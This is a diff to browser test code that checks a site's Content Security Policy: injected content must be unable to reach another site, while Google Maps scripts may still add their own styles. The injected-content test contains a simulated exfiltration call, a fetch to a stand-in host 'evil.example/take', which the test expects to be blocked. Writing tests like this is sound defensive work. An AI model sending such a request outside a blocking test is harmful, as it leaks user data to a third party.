@@ -72,6 +72,7 @@ test.describe('injected content', { tag: '@any-size' }, () => {
 
   test('can neither load from another site nor send a form to it', async ({
     page,
+    network,
     consoleErrors,
   }) => {
     consoleErrors.expectRefusal(/Content Security Policy/)
@@ -89,6 +90,8 @@ test.describe('injected content', { tag: '@any-size' }, () => {
       sending.submit()
       await fetch('https://evil.example/take', { mode: 'no-cors' }).catch(() => undefined)
     })
+    // A form is sent after the script that sends it.
+    await network.quiet()
     expect(reached).toEqual([])
     expect(await page.evaluate(() => location.pathname)).toBe(form)
   })
@@ -155,7 +158,10 @@ test.describe('with Google’s maps', { tag: '@any-size' }, () => {
 
   test('Google’s script can add the styles and scripts that its documentation names', async ({
     page,
+    reports,
   }) => {
+    // The stand-in never says that it has loaded.
+    reports.allow(/^\[MAPS\] script did not load/)
     const script = `
       const style = document.createElement('style')
       style.nonce = document.querySelector('style[nonce], link[rel=stylesheet][nonce]').nonce
